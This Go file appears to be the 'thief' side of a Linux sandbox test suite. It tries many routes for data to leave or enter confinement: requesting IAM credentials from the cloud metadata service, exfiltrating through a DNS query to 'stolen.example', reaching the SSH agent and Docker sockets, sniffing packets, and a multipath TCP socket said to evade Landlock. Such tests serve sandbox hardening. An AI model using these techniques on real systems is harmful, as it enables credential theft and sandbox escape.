//go:build thief && linux

package thief

import (
	"bufio"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// networkWays carry loot away, or fetch some.
func networkWays(s Scene) []Way {
	return []Way{
		{Name: "TCP", Try: func(ctx context.Context) error { return s.ask(ctx, "tcp", s.TCP, "hello\n") }},
		{Name: "TCP over IPv6", Try: func(ctx context.Context) error { return s.ask(ctx, "tcp6", s.TCP6, "hello\n") }},
		{Name: "multipath TCP", Try: s.multipath},
		{Name: "the metadata service", Try: func(ctx context.Context) error {
			return s.ask(ctx, "tcp", s.Metadata, "GET /latest/meta-data/iam/security-credentials/role HTTP/1.0\r\n\r\n")
		}},
		{Name: "UDP", Try: func(ctx context.Context) error { return s.ask(ctx, "udp", s.UDP, "hello\n") }},
		{Name: "loot in a DNS query", Try: s.query},
		{Name: "an abstract Unix socket", Try: func(ctx context.Context) error { return s.ask(ctx, "unix", s.Abstract, "hello\n") }},
		{Name: "the SSH agent's socket", Try: func(ctx context.Context) error { return s.ask(ctx, "unix", s.Agent, "hello\n") }},
		{Name: "Docker's socket", Try: func(ctx context.Context) error {
			return s.ask(ctx, "unix", s.Docker, "GET /containers/json HTTP/1.0\r\n\r\n")
		}},
		{Name: "waiting for a caller", Try: listen},
		{Name: "the system's addresses by netlink", Try: s.addresses},
		{Name: "a raw socket", Try: ping},
		{Name: "other programs' packets", Try: s.sniff},
	}
}

// ask says something to a server, all of which answer with loot.
func (s Scene) ask(ctx context.Context, network, address, text string) error {
	var d net.Dialer
	d.SetMultipathTCP(false) // there is a way for it
	conn, err := d.DialContext(ctx, network, address)
	if err != nil {
		return err
	}
	defer conn.Close()
	return s.talk(ctx, conn, text)
}

func (s Scene) talk(ctx context.Context, conn net.Conn, text string) error {
	if deadline, ok := ctx.Deadline(); ok {
		if err := conn.SetDeadline(deadline); err != nil {
			return err
		}
	}
	if _, err := io.WriteString(conn, text); err != nil {
		return err
	}
	answer := make([]byte, 4<<10)
	n, err := bufio.NewReader(conn).Read(answer)
	if err != nil {
		return err
	}
	return s.loot(answer[:n])
}

// multipath is TCP that Landlock does not see.
func (s Scene) multipath(ctx context.Context) error {
	const protocol = 262
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, protocol)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	to, err := net.ResolveTCPAddr("tcp", s.TCP)
	if err != nil {
		return err
	}
	if err := unix.Connect(fd, &unix.SockaddrInet4{Port: to.Port, Addr: [4]byte(to.IP.To4())}); err != nil {
		return err
	}
	if _, err := unix.Write(fd, []byte("hello\n")); err != nil {
		return err
	}
	answer := make([]byte, 4<<10)
	n, err := unix.Read(fd, answer)
	if err != nil {
		return err
	}
	return s.loot(answer[:n])
}

// query sends a question whose name is the message; the resolver's answer says
// that it came.
func (s Scene) query(ctx context.Context) error {
	question := []byte{0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range []string{"stolen", "example"} {
		question = append(append(question, byte(len(label))), label...)
	}
	question = append(question, 0, 0, 16, 0, 1) // TXT
	return s.ask(ctx, "udp", s.Resolver, string(question))
}

func listen(ctx context.Context) error {
	var config net.ListenConfig
	config.SetMultipathTCP(false)
	l, err := config.Listen(ctx, "tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer l.Close()
	called := make(chan error, 1)
	go func() {
		conn, err := net.Dial("tcp", l.Addr().String())
		if err == nil {
			err = conn.Close()
		}
		called <- err
	}()
	conn, err := l.Accept()
	if err != nil {
		return err
	}
	return errors.Join(conn.Close(), <-called)
}

func (s Scene) addresses(context.Context) error {
	all, err := syscall.NetlinkRIB(unix.RTM_GETADDR, unix.AF_INET)
	if err != nil {
		return err
	}
	host, _, err := net.SplitHostPort(s.Metadata)
	if err != nil {
		return err
	}
	if !bytes.Contains(all, net.ParseIP(host).To4()) {
		return errNoLoot
	}
	return nil
}

// ping sends an echo request to this machine and gets one packet back.
func ping(context.Context) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 2}); err != nil {
		return err
	}
	const request, checksum = 8, 0xf7ff // of a packet with nothing else in it
	packet := binary.BigEndian.AppendUint16([]byte{request, 0}, checksum)
	packet = append(packet, 0, 0, 0, 0)
	if err := unix.Sendto(fd, packet, 0, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}); err != nil {
		return err
	}
	_, _, err = unix.Recvfrom(fd, make([]byte, 1<<10), 0)
	return err
}

// sniff reads what somebody else says on the network.
func (s Scene) sniff(ctx context.Context) error {
	all := int(binary.NativeEndian.Uint16([]byte{0, unix.ETH_P_ALL}))
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, all)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 2}); err != nil {
		return err
	}
	if err := s.ask(ctx, "udp", s.UDP, "hello\n"); err != nil {
		return err
	}
	packet := make([]byte, 4<<10)
	for until := time.Now().Add(2 * time.Second); time.Now().Before(until); {
		n, _, err := unix.Recvfrom(fd, packet, 0)
		if err != nil {
			return err
		}
		if s.loot(packet[:n]) == nil {
			return nil
		}
	}
	return fmt.Errorf("%s: %w", strings.ToLower(s.UDP), errNoLoot)
}
